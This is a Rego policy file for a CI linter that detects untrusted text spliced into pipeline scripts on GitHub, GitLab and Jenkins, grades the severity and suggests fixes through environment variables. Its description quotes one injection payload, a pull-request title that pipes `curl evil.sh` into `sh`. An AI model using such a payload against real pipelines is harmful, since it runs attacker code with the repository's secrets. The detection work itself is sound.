# METADATA
# title: Untrusted text spliced into code before it runs
# description: |
#   The CI system substitutes an expression's text into a script, or into
#   an action input that is evaluated as code, before the shell or
#   interpreter reads it, so the text becomes code: a pull-request title
#   such as `a"; curl evil.sh | sh; echo "` runs with the pipeline's
#   token and secrets. GitHub's `${{ }}` in `run:` and in code inputs
#   (`actions/github-script`'s `script:`), GitLab's `$[[ inputs.x ]]` in
#   `script:`, and Jenkins Groovy interpolation (`sh "echo ${env.CHANGE_TITLE}"`)
#   all work this way. Text an outsider writes (issue, pull request,
#   comment, review and discussion text, branch names, commit messages)
#   is followed through env variables, `$GITHUB_ENV`, step and job outputs,
#   `needs`, matrices, and the inputs of reusable workflows and actions
#   the repository calls. The severity follows the trigger: critical when
#   an outsider's event runs the pipeline with the repository's token and
#   secrets (`pull_request_target`, `issue_comment`, `issues`,
#   `workflow_run`, ...), low on a fork's `pull_request` (read-only token,
#   no secrets), medium for `workflow_dispatch` inputs, inputs of a
#   workflow or action whose callers are not in view, GitLab inputs and
#   Jenkins parameters. Conditions (`if:`), secrets, SHAs, numbers, step
#   outcomes, ternaries whose branches are literals, and variables the
#   shell reads itself (`"$TITLE"`, GitLab's `$CI_COMMIT_TITLE`, Jenkins
#   single-quoted strings) are never reported: the CI system does not
#   splice them into code.
# custom:
#   id: script-injection
#   severity: high
#   precision: high
#   remediation: |
#     Let the shell read the value from its environment instead of
#     splicing it into the code: on GitHub, set `env: TITLE: ${{ github.event.issue.title }}`
#     on the step and use `"$TITLE"` (bash) or `$env:TITLE` (PowerShell),
#     `process.env.TITLE` in github-script; on GitLab, pass the input as a
#     variable (`variables: TAG: $[[ inputs.tag ]]`) and use `"$TAG"`; in
#     a Jenkinsfile, use a single-quoted string (`sh 'echo "$CHANGE_TITLE"'`).
#   tags: [security, injection, external/cwe/cwe-94, external/cwe/cwe-78]
package pipelint.rules.script_injection

import data.pipelint.lib.commands
import data.pipelint.lib.pipeline
import data.pipelint.lib.runs
import data.pipelint.lib.tables
import data.pipelint.lib.text
import data.pipelint.lib.untrusted

# --- Expressions spliced into scripts and code inputs ------------------------

findings contains object.union(finding, move_to_env(site)) if {
	some site in pipeline.spliced
	finding := expression_finding(site.expression, site.job, site.step, site)
}

# move_to_env is the fix of an expression in a GitHub step's script:
# `pipelint fix --unsafe` sets a variable of the step's env to it and
# makes the script read the variable. Unsafe: the script then gets the
# value as text, never as code, and as one word, which is the point but
# changes what a script that meant either does.
move_to_env(site) := {"fix": {"kind": "move-to-env", "pos": site.expression.pos, "unsafe": true}} if {
	input.system == "github"
	site.expression in input.jobs[site.job].steps[site.step].script.expressions
} else := {}

# expression_finding reports expression e, in a sink of step s of job j,
# when text someone other than the repository's writers may set flows
# into it; the worst origin decides.
expression_finding(e, j, s, sink) := finding if {
	origins := [o | some path in e.flows; o := untrusted.origin(path, j, s)]
	count(origins) > 0
	ranked := sort([[rank[o.origin], o.via, o.origin] | some o in origins])
	[_, via, origin] := ranked[count(ranked) - 1]
	grade := untrusted.context_grade(via)
	finding := {
		"msg": sprintf("%s %s, and the CI system splices it into %s%s; %s", [
			written(e), source_text(origin, via, e), sink.what, trigger_text(origin, grade), fix(e, sink.shell),
		]),
		"pos": e.pos,
		"severity": severity(origin, grade),
	}
}

rank := {"caller": 1, "dispatch": 2, "partly": 3, "outsider": 4}

# written is the expression as written in the file, delimiters and all,
# when it is on one line.
written(e) := w if {
	w := text.at(e.pos)
	w != ""
} else := e.value

source_text(origin, via, e) := sprintf("holds %s (%s)", [who[origin], via]) if {
	not via in e.flows
}

source_text(origin, via, e) := sprintf("is %s", [who[origin]]) if via in e.flows

who := {
	"outsider": "text anyone who can open an issue or a pull request writes",
	"partly": "an address or URL an outsider chooses",
	"dispatch": "text whoever starts the pipeline types",
	"caller": "an input whose callers are not in this repository",
}

trigger_text(origin, grade) := ", in a workflow that outsiders' events start with the repository's token and secrets" if {
	grade == "privileged"
	origin in {"outsider", "partly"}
} else := ""

severity(origin, grade) := severities[origin][grade]

severities := {
	"outsider": {"privileged": "critical", "fork": "low", "trusted": "medium", "unknown": "high"},
	"partly": {"privileged": "high", "fork": "low", "trusted": "low", "unknown": "medium"},
	"dispatch": {"privileged": "medium", "fork": "medium", "trusted": "medium", "unknown": "medium"},
	"caller": {"privileged": "medium", "fork": "medium", "trusted": "medium", "unknown": "medium"},
}

# fix says how to pass the value instead: through an environment variable
# the shell reads. A value already in the environment (`${{ env.X }}`)
# needs no new variable.
fix(e, shell) := sprintf("read it from the environment instead (%s)", [commands.env_reference(name, shell)]) if {
	[path] := e.reads
	startswith(path, "env.")
	name := upper(substring(path, 4, -1))
} else := sprintf("pass it through an environment variable (%s: %s) and read %s", [name, written(e), commands.env_reference(name, shell)]) if {
	name := env_name(e.flows[0])
}

env_name(path) := upper(replace(parts[count(parts) - 1], "-", "_")) if parts := split(path, ".")


# --- Jenkins ----------------------------------------------------------------

# A Groovy string's interpolations in the script argument of a shell step.
findings contains finding if {
	some call, places in pipeline.steps_by_call
	shell := tables.shell_calls[call]
	some [j, s] in places
	step := input.jobs[j].steps[s]
	some arg in step.with
	arg.name.value in {"", "script"}
	some e in arg.expressions
	origins := [[rank[o], path] | some path in e.flows; o := jenkins_origin(path)]
	count(origins) > 0
	[r, path] := sort(origins)[count(origins) - 1]
	finding := {
		"msg": sprintf("${%s} %s, and Groovy interpolates it into this %s script before the shell reads it; use a single-quoted string and let the shell read it (%s)", [
			e.value, jenkins_who[r], step.call.value, jenkins_reference(path, shell),
		]),
		"pos": e.pos,
		"severity": jenkins_severity[r],
	}
}

# jenkins_origin is who writes a path a Groovy expression reads: the
# change's author or a pusher for the change variables (also through an
# `environment {}` variable set from one), whoever starts the build for a
# text parameter.
jenkins_origin(path) := change_origin(trim_prefix(path, "env.")) if {
	change_origin(trim_prefix(path, "env."))
} else := "dispatch" if {
	name := trim_prefix(path, "params.")
	some param in untrusted.parameters_by_name[lower(name)]
	param.name.value == name
	param.type in {"string", "text", ""}
}

change_origin(name) := o if {
	control := tables.jenkins_change_variables[name]
	o := {"outsider": "outsider", "pusher": "caller"}[control]
} else := o if {
	some env in variables_by_name[name]
	some e in env.expressions
	some inner in e.flows
	control := tables.jenkins_change_variables[trim_prefix(inner, "env.")]
	o := {"outsider": "outsider", "pusher": "caller"}[control]
}

# variables_by_name holds the pipeline's and the jobs' env variables by
# name, grouped once from one sorted list (see runs): a walk of every
# variable for each reference would cost their product.
variables_by_name := runs.groups(sort([[v.name.value, k, v] | some k, v in array.concat(input.env, [v | some job in input.jobs; some v in job.env])]))

jenkins_who := {
	4: "is text the author of a change request writes",
	1: "is a branch or tag name anyone who can push chooses",
	2: "is a build parameter anyone who can start the build types",
}

jenkins_severity := {4: "high", 2: "medium", 1: "low"}

jenkins_reference(path, "cmd") := sprintf("%%%s%%", [jenkins_variable(path)])

jenkins_reference(path, shell) := sprintf("$env:%s", [jenkins_variable(path)]) if shell in {"powershell", "pwsh"}

jenkins_reference(path, "sh") := sprintf(`"$%s"`, [jenkins_variable(path)])

jenkins_variable(path) := name if {
	parts := split(path, ".")
	name := parts[count(parts) - 1]
}
